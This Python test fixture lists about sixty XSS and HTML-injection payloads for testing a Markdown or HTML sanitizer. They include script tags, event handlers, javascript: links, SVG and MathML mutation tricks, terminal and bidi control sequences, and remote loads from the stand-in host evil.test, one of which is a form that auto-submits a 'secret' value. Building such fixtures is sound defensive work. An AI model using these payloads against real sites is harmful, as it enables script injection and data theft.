"""Texts that want to be more than text. Whatever of them comes to pass is heard: ``canary(…)`` is a function of the page,
any request to another host or to an address with ``canary`` in it is seen, and so is a dialog, a new page or another address.
"""

from __future__ import annotations

JS = "canary(1)"
AWAY = "http://evil.test/canary"
LONG = 1_000_000

SCRIPTS = [
    f"<script>{JS}</script>",
    f"<SCRIPT SRC={AWAY}.js></SCRIPT>",
    f"</script><script>{JS}</script>",
    f"</details></div></td></table><script>{JS}</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<script\x00>{JS}</script\x00>",
    f"<script/x>{JS}</script >",
    f"<!--><script>{JS}</script>-->",
    f"<![CDATA[><script>{JS}</script>]]>",
    f"\u003cscript\u003e{JS}\u003c/script\u003e &lt;script&gt;{JS}&lt;/script&gt; &#60;script&#62;{JS}&#60;/script&#62;",
]
HANDLERS = [
    f"<img src=x onerror={JS}>",
    f'<img src="x" onerror="{JS}"',
    f"<body onload={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}><summary>look</summary></details>",
    f"<video><source onerror={JS}></video><audio src=x onerror={JS}>",
    f"<div style='animation:x 1s' onanimationstart={JS} onpointerover={JS}>over</div>",
    f'" onmouseover={JS} autofocus onfocus={JS} x="',
    f"' onfocus={JS} autofocus tabindex=0 '",
    f"<a href=# onclick={JS} style='position:fixed;inset:0'>all over the page</a>",
]
LINKS = [
    f"[press me](javascript:{JS})",
    f"[press me](JaVaScRiPt&colon;{JS})",
    f"[press me](java\nscript:{JS})",
    f"[press me](&#106;avascript:{JS})",
    "[press me](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KDEpPC9zY3JpcHQ+)",
    f"[press me](vbscript:{JS})",
    f"[one][two]\n\n[two]: javascript:{JS} 'title'",
    f"<javascript:{JS}> <data:text/html,<script>{JS}</script>>",
    f'[press me](http://evil.test/ "\\" onmouseover={JS} \\"")',
    f'[press me](<http://evil.test/" onclick={JS}>)',
]
LOADS = [
    f"![a picture]({AWAY}.png)",
    f"![a picture][there]\n\n[there]: {AWAY}.png",
    "![a picture](/files/canary.png) ![](//evil.test/canary.png) ![](file:///canary)",
    f"<img src={AWAY}.png><img srcset='{AWAY}.png 1x'><picture><source srcset={AWAY}.webp></picture>",
    f"<iframe src={AWAY}></iframe><iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f"<object data={AWAY}.swf></object><embed src={AWAY}.swf>",
    f"<link rel=stylesheet href={AWAY}.css><link rel=prefetch href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "<base href=http://evil.test/canary/>",
    f"<form action={AWAY}><input name=key value=secret><button autofocus>go on</button></form><script>document.forms[0].submit()</script>",
    f"<style>@import '{AWAY}.css'; * {{ display: none !important; background: url({AWAY}.png) }}</style>",
    f"<div style='background:url({AWAY}.png);position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999'>mine</div>",
    f"<table background={AWAY}.png><tr><td background={AWAY}.png>x</table>",
]
FOREIGN = [
    f"<svg onload={JS}><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s><image href={AWAY}.png /><use href='{AWAY}.svg#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{JS}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={JS}></style></mglyph></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>press</maction></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    f"<template><img src=x onerror={JS}></template><xmp><img src=x onerror={JS}></xmp><textarea></textarea><img src=x onerror={JS}>",
    f'$$\\href{{javascript:{JS}}}{{x}} \\unicode{{<img src=x onerror={JS}>}}$$ and $\\class{{x" onmouseover={JS}}}{{y}}$',
    f"\\begin{{equation}}<img src=x onerror={JS}>\\require{{html}}\\href{{javascript:{JS}}}{{z}}\\end{{equation}}",
]
BROKEN = [
    f"```html\n<script>{JS}</script>\n~~~\n</code></pre><img src=x onerror={JS}>",
    f"````\n```\n<img src=x onerror={JS}>\n```` `` ` <img src=x onerror={JS}> ```",
    f"| a | b |\n|---|---|\n| <img src=x onerror={JS}> | `|` <script>{JS}</script>",
    "> " * 200 + f"<img src=x onerror={JS}>",
    "[" * 3_000 + "](x)" + "*_" * 3_000 + f"<img src=x onerror={JS}>",
    "<b>" * 500 + "<div><table><tr>" * 200,
    "\x1b[2J\x1b[31mred\x1b]8;;http://evil.test/canary\x07link\x1b]8;;\x07\x1b[?1049h\x9b5A",
    "\u202egnp.exe\u202c \u2066\u2067right to left\u2069 \u200f\u061c",
    "zero\u200b\u200c\u200d\u2060\ufeff width, a\u0300\u0301\u0302\u0303" + "\u0300" * 400,
    "NUL \x00 and \x01\x08\x0b\x0c\x7f\x85\u2028\u2029 and \ud800 half a pair".replace("\ud800", "\ufffd"),
    "|" + "x|" * 400 + "\n|" + "---|" * 400 + ("\n|" + "x|" * 400) * 20,
    "# " * 50 + "\n" + "- " * 300 + f"<img src=x onerror={JS}>",
    "__proto__ constructor {{7*7}} ${{7*7}} <%= 7*7 %> {% raw %} %s %(x)s {0.__class__}",
]
HUGE = [
    "x" * LONG,
    f"<img src=x onerror={JS}>" * (LONG // 30),
    "[a](" * (LONG // 10),
]

TEXTS = [*SCRIPTS, *HANDLERS, *LINKS, *LOADS, *FOREIGN, *BROKEN]
"""Sixty and some, none of them longer than some ten thousand characters."""
EVERYTHING = "\n\n".join(TEXTS)

assert len(TEXTS) >= 60
